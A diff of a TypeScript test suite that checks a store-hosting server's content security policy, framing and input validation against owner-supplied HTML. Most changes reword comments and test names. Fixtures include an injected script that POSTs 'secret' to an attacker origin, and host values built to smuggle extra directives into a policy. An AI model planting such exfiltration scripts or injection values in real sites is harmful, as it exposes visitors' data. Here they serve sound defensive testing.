@@ -25,7 +25,7 @@ let edge: Awaited<ReturnType<typeof openEdge>>
 let storeId: StoreId
 let browser: OpenBrowser
 let app: string
-/** Requests to the app that had its cookie, beside the page that opened the store. */
+/** Requests to the app that had its cookie, except from the page that opened the store. */
 let stolenRequests: string[]
 
 const appServer = createServer((request, response) => {
@@ -47,7 +47,7 @@ beforeAll(async () => {
     publicOrigin: 'http://127.0.0.1',
     durability: 'process',
     trustedProxies: [],
-    lookupTimeoutMs: 60_000, // a busy machine answers no visitor with 503
+    lookupTimeoutMs: 60_000, // a busy machine must not answer with 503
   } as const
   edge = await openEdge({ ...options, journalsFolder: folder, db, listenerUrl, clock, ids, log })
   app = `http://localhost:${await listen(appServer, '127.0.0.1', 0, 'PORT')}`
@@ -64,11 +64,11 @@ afterAll(async () => {
 interface Visitor extends AsyncDisposable {
   context: BrowserContext
   page: Page
-  /** The requests to the attacker, and what happened that a page must not cause. */
+  /** Requests to the attacker, and other events that a page must not cause. */
   incidents: string[]
 }
 
-/** A visitor of the store who came from the app, where they are signed in. */
+/** Opens the store as a visitor who came from the app, where they are signed in. */
 async function openVisitor(): Promise<Visitor> {
   stolenRequests = []
   const incidents: string[] = []
@@ -107,7 +107,7 @@ it.each(colorAttacks)('accepts no color %j', (color) => {
   expect(['main_color', 'secondary_color'].filter((field) => storeUpdate.safeParse({ name: 'Lamps', [field]: color }).success)).toEqual([])
 })
 
-it('accepts no attack as the name of the field of a newsletter, and no form that posts over http', () => {
+it('accepts no attack as the name of a newsletter field, and no form that posts over http', () => {
   const accepts = (fields: object) => storeDraft.safeParse({ name: 'Lamps', ...fields }).success
 
   expect(textAttacks.filter((newsletter_field) => accepts({ newsletter_field }))).toEqual([])
@@ -117,7 +117,7 @@ it('accepts no attack as the name of the field of a newsletter, and no form that
   expect(accepts({ newsletter_url: 'https://mia.example/form', newsletter_field: 'fields[email]' })).toBe(true)
 })
 
-it('accepts no address of fonts or a newsletter whose host means more than one in a policy', () => {
+it('accepts no address of fonts or a newsletter whose host means more than one host in a policy', () => {
   const hosts = ['*', '*.example', 'a;script-src.example', 'a,b.example', "'self'"]
   const fields = ['custom_fonts_url', 'newsletter_url'] as const
   const accepted = (host: string) => fields.filter((field) => storeDraft.safeParse({ name: 'Lamps', [field]: `https://${host}/x` }).success)
@@ -126,7 +126,7 @@ it('accepts no address of fonts or a newsletter whose host means more than one i
   expect(['fonts.example', 'xn--lamp-1ta.example', '192.0.2.7', '[2001:db8::1]'].map(accepted)).toEqual(Array(4).fill(fields))
 })
 
-it('leaves hosts that were stored before they were rejected out of the policy', async () => {
+it('omits from the policy hosts that were stored before they were rejected', async () => {
   await ownStore('<p>Own</p>')
   await queryAsOwner(
     deps,
@@ -141,7 +141,7 @@ it('leaves hosts that were stored before they were rejected out of the policy', 
   await queryAsOwner(deps, 'update stores set custom_fonts_url = null, newsletter_url = null where id = $1', [storeId])
 })
 
-it('lets the form of a newsletter post to its provider alone, and no form of a store without one', async () => {
+it('lets a newsletter form post only to its provider, and allows no form on a store without a newsletter', async () => {
   await ownStore('<p>Own</p>')
   const policy = async () => (await fetch(`http://127.0.0.1:${edge.port}/@lamps`)).headers.get('content-security-policy')
   expect(await policy()).toContain("form-action 'self';")
@@ -167,7 +167,7 @@ it('accepts no text as the ratio of pictures, which is a class of the page', () 
   expect(textAttacks.filter((picture_ratio) => storeUpdate.safeParse({ name: 'Lamps', picture_ratio }).success)).toEqual([])
 })
 
-it('gives the own HTML of a store nothing to reach: no storage, opener, parent, top, app or window', async () => {
+it("gives the owner's HTML no access to storage, opener, parent, top, app or window", async () => {
   await ownStore(snippetOf(app))
   await using visitor = await openVisitor()
   const { context, page, incidents } = visitor
@@ -201,7 +201,7 @@ it.each(markupAttacks)('sends no visitor away by %j', async (snippet) => {
   expect(incidents.filter((incident) => !incident.startsWith('/frame'))).toEqual([])
 })
 
-it('shows the own HTML in its frame, and the store where its address is opened as a tab', async () => {
+it("shows the owner's HTML in its frame, and the store if its address is opened as a tab", async () => {
   await ownStore('<p>Sign in to 127.0.0.1</p>')
   await using visitor = await openVisitor()
   const { context, page } = visitor
@@ -219,7 +219,7 @@ it('shows the own HTML in its frame, and the store where its address is opened a
   await page.waitForURL(store)
 })
 
-it("lets the own HTML of a Free plan load pictures and send nothing by script, and a paid plan's connect", async () => {
+it("lets the owner's HTML load pictures, and lets its scripts connect only on a paid plan", async () => {
   const url = (path: string) => JSON.stringify(`${attackerOrigin}/${path}`)
   await ownStore(`<script>
     const xhr = new XMLHttpRequest(); xhr.open('POST', ${url('xhr')}); xhr.send('secret')
@@ -242,7 +242,7 @@ it("lets the own HTML of a Free plan load pictures and send nothing by script, a
   await setOrganizationSettings(deps, ctx.organization.id, ['package=Free'])
 })
 
-it('is framed by no other site, neither its pages nor its own HTML', async () => {
+it("lets no other site frame the store's pages or the owner's HTML", async () => {
   await ownStore('<p>Own</p>')
   await using visitor = await openVisitor()
   const { page } = visitor
@@ -259,7 +259,7 @@ it('is framed by no other site, neither its pages nor its own HTML', async () =>
   ).toEqual(['chrome-error://chromewebdata/', 'chrome-error://chromewebdata/'])
 })
 
-it('runs none of the texts of an owner, wherever they stand', async () => {
+it("runs none of an owner's texts, wherever they are shown", async () => {
   const [first = ''] = textAttacks
   const lastAttacks = textAttacks.join('\n').slice(-2_000)
   const { url_id } = await aLink(deps, ctx)
@@ -287,7 +287,7 @@ it('runs none of the texts of an owner, wherever they stand', async () => {
   expect(incidents).toEqual([])
 })
 
-/** Gives the store this HTML of its own, and waits until the edge serves it. */
+/** Gives the store this HTML, and waits until the edge serves it. */
 async function ownStore(snippet: string): Promise<void> {
   await updateStore(deps, ctx, { storeId, update: storeUpdate.parse({ name: 'Lamps', snippet }) })
   const served = async () => (await fetch(`http://127.0.0.1:${edge.port}/@lamps/snippet`)).text()
